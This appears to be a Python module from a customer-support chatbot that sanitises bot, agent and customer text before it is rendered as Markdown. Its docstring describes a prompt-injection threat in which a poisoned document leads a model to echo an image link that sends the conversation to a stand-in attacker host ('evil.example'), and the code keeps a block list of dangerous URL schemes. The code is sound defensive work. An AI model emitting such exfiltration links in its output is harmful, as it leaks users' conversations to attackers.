"""Safe display: every piece of text a person sees goes through :func:`safe_markdown`.

Bot answers, agent messages, customer messages and citation snippets all carry text an
attacker can shape: a poisoned document, a crafted question, a model coaxed into
echoing either. Rendered as Markdown (Streamlit's ``st.markdown``, rich in a terminal)
that text could fetch a remote image whose URL smuggles the conversation out
(``![x](https://evil.example/?q=...)``), show a clickable phishing link, run script
through raw HTML, or hide instructions in invisible characters. :func:`safe_markdown`
returns Markdown in which none of that survives:

* invisible, bidi and Unicode tag characters are removed (:func:`strip_invisible`);
* raw HTML is shown as text, never as a tag: every ``<`` in the output is escaped;
* images are dropped, inline and reference-style alike (an image is a request the
  browser makes without a click);
* links keep their text; the link itself survives only to ``http(s)`` hosts in the
  allowlist (``render.allowed_link_hosts``, empty by default). Any other URL is shown
  as inert code text, and ``javascript:``/``data:``/``vbscript:`` links are removed;
* bare URLs and e-mail addresses, which GitHub-flavoured renderers (Streamlit's
  included) turn into links on their own, are shown as code text unless allowed.

The text is parsed with markdown-it-py (the CommonMark parser Streamlit and rich already
depend on) and written back from the syntax tree, keeping a small safe subset:
paragraphs, emphasis, strike-through, code, lists, block quotes, tables, rules; headings
become bold lines (a chat bubble is no place for a page title). Everything else is
escaped text, so an unforeseen construct degrades to visible characters, never to markup.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Iterable
from typing import Any
from urllib.parse import urlsplit

from supportbot.safety.hygiene import strip_invisible

__all__ = ["is_allowed_url", "safe_markdown"]

# ASCII punctuation that means something to CommonMark, GFM or Streamlit's extensions
# (``$`` math, ``:color[...]``, ``~~``, tables). Any ASCII punctuation may be
# backslash-escaped in CommonMark, and escaped it always renders as itself.
_ESCAPE = re.compile(r"([\\`*_{}\[\]()<>#+\-.!|~$&:@=^])")
# What GFM's autolink-literal extension (and markdown-it's linkify) would turn into a
# link on its own: scheme URLs, www. hosts, e-mail addresses.
_BARE_URL = re.compile(
    r"(?i)\b(?:[a-z][a-z0-9+.\-]{1,20}://|www\.)[^\s<>`\"']+"
    r"|\b[a-z0-9._%+\-]+@[a-z0-9\-]+(?:\.[a-z0-9\-]+)+"
)
_TRAILING = ".,:;!?*_~'\")]"
_DANGEROUS_SCHEMES = {"javascript", "vbscript", "data", "file", "blob"}
LINK_REMOVED = "(link removed)"


@functools.lru_cache(maxsize=1)
def _parser() -> Any:
    from markdown_it import MarkdownIt

    # html=True so raw HTML is *recognised* (and then written back as escaped text)
    # rather than half-parsed as text with live characters in it.
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def is_allowed_url(url: str, allowed_hosts: Iterable[str]) -> bool:
    """True for an ``http(s)`` URL whose host is in ``allowed_hosts`` (or a subdomain).

    URLs with credentials, backslashes or percent signs in the authority are refused,
    because browsers and ``urllib`` disagree about where such a host ends.
    """
    try:
        parts = urlsplit(url.strip())
    except ValueError:
        return False
    if parts.scheme.lower() not in ("http", "https") or not parts.netloc:
        return False
    if any(ch in parts.netloc for ch in "@\\%"):
        return False
    host = (parts.hostname or "").lower().rstrip(".")
    for allowed in allowed_hosts:
        a = allowed.lower().strip().rstrip(".")
        if a and (host == a or host.endswith("." + a)):
            return True
    return False


def _escape(text: str) -> str:
    return _ESCAPE.sub(r"\\\1", text)


def _code(text: str) -> str:
    """An inline code span: shown as typed, never interpreted (no links, no HTML)."""
    text = " ".join(text.split())
    if not text:
        return ""
    if "<" in text or ">" in text:
        return _escape(text)  # keep the invariant: no unescaped "<" in the output
    run = max((len(m) for m in re.findall(r"`+", text)), default=0)
    fence = "`" * (run + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _inert_url(url: str) -> str:
    return _code(url)


class _Writer:
    """Writes a markdown-it syntax tree back as Markdown, keeping only the safe subset."""

    def __init__(self, allowed_hosts: tuple[str, ...]) -> None:
        self.allowed = allowed_hosts

    # -- inline ---------------------------------------------------------------------

    def text(self, text: str) -> str:
        out: list[str] = []
        pos = 0
        for m in _BARE_URL.finditer(text):
            url = m.group(0)
            stripped = url.rstrip(_TRAILING)
            end = m.start() + len(stripped)
            out.append(_escape(text[pos : m.start()]))
            if "://" not in stripped and "@" not in stripped and stripped.lower() != "www.":
                link = "http://" + stripped  # www.host: GFM links it as http
            else:
                link = stripped
            if is_allowed_url(link, self.allowed):
                out.append(f"[{_escape(stripped)}](<{_href(link)}>)")
            else:
                out.append(_inert_url(stripped))
            pos = end
        out.append(_escape(text[pos:]))
        return "".join(out)

    def inline(self, nodes: Iterable[Any]) -> str:
        return "".join(self.inline_node(n) for n in nodes)

    def inline_node(self, node: Any) -> str:
        kind = node.type
        if kind in ("text", "text_special"):
            return self.text(node.content)
        if kind == "softbreak":
            return "\n"
        if kind == "hardbreak":
            return "\\\n"
        if kind == "code_inline":
            return _code(node.content)
        if kind in ("em", "strong", "s"):
            inner = self.inline(node.children)
            if not inner.strip():
                return inner
            mark = {"em": "*", "strong": "**", "s": "~~"}[kind]
            return f"{mark}{inner}{mark}"
        if kind == "image":
            return ""  # a remote image is a request made without a click: never rendered
        if kind == "link":
            return self.link(node)
        if kind == "html_inline":
            return _escape(node.content)
        if node.children:
            return self.inline(node.children)
        return _escape(node.content or "")

    def link(self, node: Any) -> str:
        href = str(node.attrs.get("href", ""))
        label = self.inline(node.children).strip()
        scheme = href.split(":", 1)[0].lower() if ":" in href else ""
        if scheme in _DANGEROUS_SCHEMES:
            return f"{label} {LINK_REMOVED}" if label else LINK_REMOVED
        if is_allowed_url(href, self.allowed):
            return f"[{label or _escape(href)}](<{_href(href)}>)"
        shown = _display_url(href)
        if node.markup in ("autolink", "linkify") or not label:
            return _inert_url(shown)
        return f"{label} ({_inert_url(shown)})"

    # -- blocks -----------------------------------------------------------------------

    def blocks(self, nodes: Iterable[Any]) -> str:
        parts = [self.block(n) for n in nodes]
        return "\n\n".join(p for p in parts if p.strip())

    def block(self, node: Any) -> str:
        kind = node.type
        if kind == "paragraph":
            return self.inline_children(node)
        if kind == "heading":
            inner = self.inline_children(node)
            return f"**{inner}**" if inner.strip() else ""
        if kind in ("bullet_list", "ordered_list"):
            return self.list(node)
        if kind == "blockquote":
            inner = self.blocks(node.children)
            return "\n".join(("> " + line) if line else ">" for line in inner.split("\n"))
        if kind in ("fence", "code_block"):
            return self.code_block(node.content)
        if kind == "hr":
            return "---"
        if kind == "html_block":
            lines = [_escape(line.strip()) for line in node.content.splitlines()]
            return "\n".join(line for line in lines if line)
        if kind == "table":
            return self.table(node)
        if kind == "inline":
            return self.inline(node.children)
        if node.children:
            return self.blocks(node.children)
        return _escape(node.content or "")

    def inline_children(self, node: Any) -> str:
        return "".join(self.inline(c.children) for c in node.children if c.type == "inline")

    def list(self, node: Any) -> str:
        ordered = node.type == "ordered_list"
        start = int(node.attrs.get("start", 1) or 1) if ordered else 1
        items: list[str] = []
        for i, item in enumerate(node.children):
            marker = f"{start + i}." if ordered else "-"
            pad = " " * (len(marker) + 1)
            parts: list[str] = []
            previous = ""
            for child in item.children:
                body = self.block(child)
                if not body.strip():
                    continue
                if parts:
                    both_paragraphs = previous == child.type == "paragraph"
                    parts.append("\n\n" if both_paragraphs else "\n")
                parts.append(body)
                previous = child.type
            content = "".join(parts)
            lines = content.split("\n")
            rest = [(pad + line) if line else "" for line in lines[1:]]
            items.append("\n".join([f"{marker} {lines[0]}".rstrip(), *rest]))
        return "\n".join(items)

    def code_block(self, content: str) -> str:
        if "<" in content or ">" in content:
            lines = [_escape(line) for line in content.rstrip("\n").split("\n")]
            return "\\\n".join(line for line in lines if line.strip())
        run = max((len(m) for m in re.findall(r"`+", content)), default=0)
        fence = "`" * max(3, run + 1)
        return f"{fence}\n{content.rstrip(chr(10))}\n{fence}"

    def table(self, node: Any) -> str:
        rows: list[list[str]] = []
        for section in node.children:
            for tr in section.children:
                rows.append([self.inline_children(cell).replace("\n", " ") for cell in tr.children])
        if not rows:
            return ""
        width = max(len(r) for r in rows)
        rows = [r + [""] * (width - len(r)) for r in rows]
        lines = ["| " + " | ".join(rows[0]) + " |", "|" + "---|" * width]
        lines += ["| " + " | ".join(r) + " |" for r in rows[1:]]
        return "\n".join(lines)


def _href(url: str) -> str:
    """A URL safe inside ``(<...>)``: no spaces, angle brackets or line breaks."""
    return re.sub(r"[\s<>]", lambda m: f"%{ord(m.group(0)):02X}", url)


def _display_url(url: str) -> str:
    try:
        from mdurl import decode

        return str(decode(url))
    except Exception:  # noqa: BLE001 - display only; the encoded form is fine too
        return url


def safe_markdown(text: str, allowed_hosts: Iterable[str] = ()) -> str:
    """Markdown that is safe to render: no HTML, no images, no links outside the allowlist.

    Args:
        text: bot, agent or customer text, or a citation snippet.
        allowed_hosts: hosts whose ``http(s)`` links stay clickable (subdomains
            included); the caller passes ``settings.render.allowed_link_hosts``.
            Empty (the default): no link is clickable.

    Returns:
        Markdown for ``st.markdown`` (with ``unsafe_allow_html`` left False) or rich.

    Example:
        >>> st.markdown(safe_markdown(reply.answer))   # HTML shown as text, no image, no link
    """
    hosts = tuple(allowed_hosts)
    cleaned = strip_invisible((text or "").replace("\r\n", "\n").replace("\r", "\n"))
    if not cleaned.strip():
        return ""
    from markdown_it.tree import SyntaxTreeNode

    tree = SyntaxTreeNode(_parser().parse(cleaned))
    return _Writer(hosts).blocks(tree.children).strip()
